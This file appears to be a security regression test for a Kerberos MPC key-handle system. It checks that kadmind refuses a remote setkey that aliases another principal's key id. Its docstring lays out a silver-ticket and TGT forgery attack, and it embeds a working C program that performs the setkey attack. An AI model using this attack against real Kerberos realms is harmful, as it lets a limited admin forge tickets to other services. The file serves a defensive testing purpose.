"""A remote setkey writes a key handle naming another principal's key id.

Attack (review50c): kadmind's setkey_principal (kadm5_setkey_principal_3,
ACL 's' on the target) stores whatever keyblock the caller sends, unchecked
against its enctype's length (kadm5_setkey_principal_4 ->
krb5_dbe_encrypt_key_data; kmpc-kdb-handle relies on exactly that to write
handles). A 40-byte keyblock "kmpc-key" || KEYID is a key handle to the KDC
(docs/security-model.md, "Key handles come only from the KDB"): from then
on the KDB entry of the setkey's target names the cluster key KEYID, which
belongs to another principal. Key ids are no secret: every MPC server's
operator sees them ("public metadata: key ids"), and so does whoever holds
a KDB dump or backup, or kmpc-admin's output.

So an admin whose ACL allows setkey on one throwaway principal (here
`helpdesk/admin`, ACL `s` on `evil/*`) and who knows the key id of a
service in the cluster makes the KDC issue tickets to `evil/x` encrypted
under that service's key: rewrite the ticket's (unencrypted) sname and it
is a ticket to the service, for whatever client the attacker can get a
ticket to evil/x for (S4U2Self: any user), a silver ticket; with the
krbtgt's key id, a TGT. The servers bind no key id to a principal
(kmpc.proto KeyMeta.label is free text), so nothing else refuses it.

Expected (secure) behaviour, which today's main fails: kadmind refuses a
setkey whose key has the form of a handle (or any setkey on an
MPC-protected principal), and no ticket to evil/x is under the service's
key. The realm uses krb5's test kdcmpc module (clusters=0), which holds
the service's key in DIR/mpc-test-keys; the test reads it only to build a
keytab and never prints it.
"""
import struct
import subprocess
import time

import kmpc_harness.realm as realm_mod
from kmpc_harness.cluster import password as _password

SERVICE = "host/mpc.kmpc.test"
HELPDESK = "helpdesk/admin"
EVIL = "evil/x"
CTR256 = -29002  # KRB5_KDCMPC_ENCTYPE_AES256 (krb5/kdcmpc_plugin.h)

# setkey_remote ADMIN PASSWORD PRINC KEYID: through kadmind (remote kadm5,
# as Debian's kadmin speaks it), set PRINC's key to one aes256-ctr-mpc
# keyblock holding the handle "kmpc-key" || KEYID. Prints "ok" or the error.
SETKEY_REMOTE = r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <krb5.h>
#include <kadm5/admin.h>
#include <krb5/kdcmpc_plugin.h>

int
main(int argc, char **argv)
{
    krb5_context ctx;
    krb5_principal princ;
    krb5_keyblock kb;
    unsigned char h[KRB5_KDCMPC_HANDLE_LEN];
    unsigned int i, b;
    void *handle = NULL;
    kadm5_ret_t ret;
    kadm5_config_params params;

    if (argc != 5)
        return 2;
    if (kadm5_init_krb5_context(&ctx))
        return 2;
    memset(&params, 0, sizeof(params));
    ret = kadm5_init_with_password(ctx, argv[1], argv[2], KADM5_ADMIN_SERVICE,
                                   &params, KADM5_STRUCT_VERSION,
                                   KADM5_API_VERSION_4, NULL, &handle);
    if (ret) {
        printf("init error %ld: %s\n", (long)ret, krb5_get_error_message(ctx, ret));
        return 1;
    }
    if (krb5_parse_name(ctx, argv[3], &princ))
        return 2;
    memcpy(h, KRB5_KDCMPC_HANDLE_MAGIC, KRB5_KDCMPC_HANDLE_MAGIC_LEN);
    for (i = 0; i < KRB5_KDCMPC_KEY_ID_LEN; i++) {
        sscanf(argv[4] + 2 * i, "%2x", &b);
        h[KRB5_KDCMPC_HANDLE_MAGIC_LEN + i] = (unsigned char)b;
    }
    memset(&kb, 0, sizeof(kb));
    kb.magic = KV5M_KEYBLOCK;
    kb.enctype = KRB5_KDCMPC_ENCTYPE_AES256;
    kb.length = sizeof(h);
    kb.contents = h;
    ret = kadm5_setkey_principal_3(handle, princ, FALSE, 0, NULL, &kb, 1);
    if (ret) {
        printf("error %ld: %s\n", (long)ret, krb5_get_error_message(ctx, ret));
        return 1;
    }
    printf("ok\n");
    return 0;
}
"""


def _build(tmp_path):
    return realm_mod.build_c_text(SETKEY_REMOTE, tmp_path, "setkey_remote",
                                  libs=("kadm5clnt_mit", "krb5", "k5crypto", "com_err"))


def _keytab(path, princ, realm, enctype, key, kvnos):
    """A keytab (format 0x0502) with princ's key `key` at each kvno."""
    def counted(b):
        return struct.pack(">H", len(b)) + b
    comps = princ.split("/")
    out = b"\x05\x02"
    for kvno in kvnos:
        e = struct.pack(">H", len(comps)) + counted(realm.encode())
        e += b"".join(counted(c.encode()) for c in comps)
        e += struct.pack(">IIB", 1, int(time.time()), kvno & 0xff)
        e += struct.pack(">h", enctype) + counted(key)
        e += struct.pack(">I", kvno)
        out += struct.pack(">i", len(e)) + e
    with open(path, "wb") as f:
        f.write(out)


def test_remote_setkey_cannot_alias_another_principals_key_id(kmpc_factory,
                                                              tmp_path):
    exe = _build(tmp_path)
    m = kmpc_factory(clusters=0)
    pw = _password()
    m.addprinc("alice", pw, enctypes=["aes256-cts-hmac-sha1-96"])
    m.passwords["alice"] = pw
    spw = _password()
    m.addprinc(SERVICE, spw, enctypes=["aes256-ctr-mpc"], flags="")
    key_id = m.migrate(SERVICE, spw)  # the victim: a service in the cluster
    hpw = _password()
    m.addprinc(HELPDESK, hpw, enctypes=["aes256-cts-hmac-sha1-96"], flags="")
    m.kadmin_local(f"addprinc -randkey -e aes256-cts-hmac-sha1-96:normal {EVIL}")
    m.start_kdc()
    # The helpdesk may set keys of evil/* only.
    m.start_kadmind(acl=f"{HELPDESK}@{{realm}} s {EVIL.split('/')[0]}/*@{{realm}}\n")

    p = subprocess.run([exe, HELPDESK, hpw, EVIL, key_id], capture_output=True,
                       text=True, env=m.env, timeout=120)
    assert p.returncode in (0, 1), p.stdout + p.stderr
    setkey = p.stdout.strip()

    # What the KDC now issues as a ticket to evil/x: is it under the
    # service's key? (A keytab naming evil/x with the service's key.)
    m.login("alice")
    victim = None
    with open(m.test_keyfile) as f:
        for line in f:
            kid, _, key = line.strip().partition(" ")
            if kid == key_id:
                victim = bytes.fromhex(key)
    assert victim is not None
    kt = str(tmp_path / "victim-key-as-evil.keytab")
    _keytab(kt, EVIL, m.realm, CTR256, victim, range(1, 6))
    k = subprocess.run([realm_mod.binpath("kvno"), "-k", kt, EVIL],
                       capture_output=True, text=True, env=m.env, timeout=120)
    aliased = k.returncode == 0 and "keytab entry valid" in k.stdout
    assert setkey != "ok" and not aliased, (
        f"kadmind let {HELPDESK} (ACL 's' on evil/*) write a handle naming "
        f"{SERVICE}'s key id into {EVIL} (setkey: {setkey!r}); the KDC's "
        f"ticket to {EVIL} {'is' if aliased else 'is not'} under {SERVICE}'s "
        f"key (kvno -k: {k.stdout.strip()!r} {k.stderr.strip()!r})")
